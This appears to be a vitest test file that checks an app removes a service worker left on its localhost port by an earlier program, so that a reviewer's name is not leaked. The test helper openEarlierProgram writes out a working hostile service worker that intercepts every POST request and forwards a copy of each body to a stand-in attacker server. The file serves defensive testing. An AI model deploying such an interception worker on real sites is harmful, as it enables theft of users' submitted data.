import { createServer } from 'node:http'
import { expect, test } from 'vitest'
import { PATIENCE } from '../extension/view.ts'
import { type Listening, listening } from './listening.ts'
import type { Scene } from './scene.ts'
import { openUnguardedServer } from './unguarded-server.ts'
import { ask, shows } from './views.ts'

type Program = {
  name: string
  port: (world: Scene['world']) => number
  stop: (world: Scene['world']) => Promise<void>
  start: (world: Scene['world']) => Promise<void>
  /** An expression: the page of the program is drawn. */
  isDrawn: string
}

const PROGRAMS: Program[] = [
  {
    name: 'the daemon',
    port: ({ daemon }) => daemon.port,
    stop: ({ daemon }) => daemon.stop(),
    start: (world) => world.restartDaemon(),
    isDrawn: `document.querySelector('textarea') !== null`,
  },
  {
    name: 'the backend',
    port: ({ backend }) => backend.port,
    stop: ({ stopBackend }) => stopBackend(),
    start: (world) => world.startBackend(),
    isDrawn: `document.querySelector('.console') !== null`,
  },
]

const REVIEWER = 'Secret Reviewer'

/** An earlier program on one of our ports has left a service worker, which hears all that the page sends. */
export function describeServiceWorker(scene: () => Scene): void {
  test.each(PROGRAMS)(
    'a worker that an earlier program left on the port of $name is gone as soon as the page is there',
    async ({ port, stop, start, isDrawn }) => {
      const { browser, world } = scene()
      const url = `http://127.0.0.1:${port(world)}/`
      await stop(world)
      const earlier = await openEarlierProgram(port(world), 'no address')
      await browser.open(url)
      await browser.until(IS_CONTROLLED)
      await earlier.close()
      await start(world)

      await browser.open(url)
      await browser.until(`${isDrawn} && navigator.serviceWorker.controller === null`)
      await browser.until(`navigator.serviceWorker.getRegistrations().then(({ length }) => length === 0)`)
      await browser.open(url)
      await browser.until(isDrawn)
      expect(await browser.evaluate(IS_CONTROLLED)).toBe(false)
    },
  )

  test('a worker that sends on what it hears hears no name', async () => {
    const { browser, world } = scene()
    const evil = await openUnguardedServer()
    await world.daemon.stop()
    const earlier = await openEarlierProgram(world.daemon.port, evil.url)
    await browser.open(world.url)
    await browser.until(IS_CONTROLLED)
    // The attack works: what a page of this origin sends is heard.
    await expect
      .poll(async () => {
        await browser.evaluate(`fetch('/api', { method: 'POST', body: 'a test' }).then(() => null)`)
        return evil.arrived.map(({ body }) => body)
      }, PATIENCE)
      .toContain('a test')
    await earlier.close()
    await world.restartDaemon()

    await browser.open(world.url)
    await browser.until(`document.querySelector('textarea') !== null`)
    await ask(browser, [REVIEWER], ['Scott Shenker'])
    await browser.until(shows(REVIEWER))
    await browser.until(`document.querySelector('[role=grid], .alert') !== null`)
    expect(evil.arrived.filter(({ body }) => body.includes(REVIEWER))).toEqual([])
    await evil.close()
  })
}

const IS_CONTROLLED = `navigator.serviceWorker.controller !== null`

/** A program whose page registers a worker. The worker lets everything pass and sends a copy of each body elsewhere. */
function openEarlierProgram(port: number, copiesTo: string): Promise<Listening> {
  const worker = `
    onactivate = (event) => event.waitUntil(clients.claim())
    oninstall = () => skipWaiting()
    onfetch = (event) => {
      if (event.request.method === 'POST') {
        const copy = event.request.clone().text()
        event.waitUntil(copy.then((body) => fetch('${copiesTo}', { method: 'POST', mode: 'no-cors', body })).catch(() => {}))
      }
      event.respondWith(fetch(event.request))
    }`
  const page = `<!doctype html><title>An earlier program</title>
    <script>navigator.serviceWorker.register('/worker.js')</script>`
  const server = createServer((request, response) => {
    const isWorker = request.url === '/worker.js'
    response.setHeader('content-type', isWorker ? 'text/javascript' : 'text/html')
    request.resume().on('end', () => response.end(isWorker ? worker : page))
  })
  return listening(server, port)
}
